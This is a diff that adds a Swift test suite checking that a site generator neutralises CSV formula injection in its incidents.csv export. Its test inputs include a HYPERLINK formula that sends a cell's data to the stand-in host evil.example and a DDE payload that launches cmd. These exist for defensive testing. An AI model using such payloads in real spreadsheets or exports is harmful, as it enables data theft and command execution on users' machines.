@@ -90,3 +90,35 @@ import Testing
         #expect(rows[1].hasPrefix("live-story-b-quoted-b-script,https://example.org/incidents/live-story-b-quoted-b-script/,\"Live story <b>\"\"quoted\"\"</b> ]]> </script>\","))
     }
 }
+
+/// `incidents.csv` opened in a spreadsheet runs nothing (OWASP's CSV injection rule).
+@Suite struct CSVInjectionTests {
+    @Test func textCellsThatStartAFormulaAreNeutralised() throws {
+        let formula = #"=HYPERLINK("https://evil.example/?"&B2,"Open")"#
+        let site = try TestSite([
+            "Content/incidents/a.md": """
+                ---
+                title: '\(formula)'
+                slug: a
+                date: 2024-03-01T10:00:00Z
+                location: {name: "+44 20 7946 0000", area: "@area", lat: -51.5, lon: -0.15}
+                status: developing
+                summary: A fire broke out.
+                category: "-cmd"
+                tags: ["=1+1"]
+                content_warning: "=cmd|' /C calc'!A0"
+                ---
+                Body.
+                """,
+        ])
+        defer { site.delete() }
+        let result = try site.build()
+        #expect(!result.failed, "\(result.diagnostics)")
+        let rows = try site.read("incidents.csv").components(separatedBy: "\r\n")
+        #expect(rows[1] == "a,https://example.org/incidents/a/,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"Open\"\")\","
+            + "2024-03-01T10:00:00+00:00,developing,A fire broke out.,'+44 20 7946 0000,'@area,-51.5,-0.15,'-cmd,,'=1+1,,,"
+            + "'=cmd|' /C calc'!A0,2024-03-01T10:00:00+00:00,2024-03-01T10:00:00+00:00,0,0,0,,")
+        let json = try site.read("incidents.json")
+        #expect(json.contains(#""title":"=HYPERLINK(\"https://evil.example/?\"\u0026B2,\"Open\")""#))
+    }
+}
